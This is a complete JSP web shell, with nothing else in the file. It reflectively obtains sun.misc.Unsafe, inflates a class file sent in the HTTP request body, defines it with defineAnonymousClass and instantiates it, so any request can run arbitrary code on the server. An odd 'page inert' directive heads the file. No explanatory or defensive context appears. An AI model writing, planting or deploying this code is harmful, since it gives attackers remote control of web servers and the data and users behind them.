<%@ page inert %>
<%@ page import="java.lang.reflect.*,java.util.zip.*,java.io.*" %>
<%
Field f = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
f.setAccessible(true);
Object u = f.get(null);
ByteArrayOutputStream bo = new ByteArrayOutputStream();
InputStream in = new InflaterInputStream(request.getInputStream());
byte[] t = new byte[1024]; int n;
while ((n = in.read(t)) > 0) bo.write(t, 0, n);
Method m = u.getClass().getMethod("defineAnonymousClass", Class.class, byte[].class, Object[].class);
((Class) m.invoke(u, HttpServlet.class, bo.toByteArray(), null)).newInstance();
%>
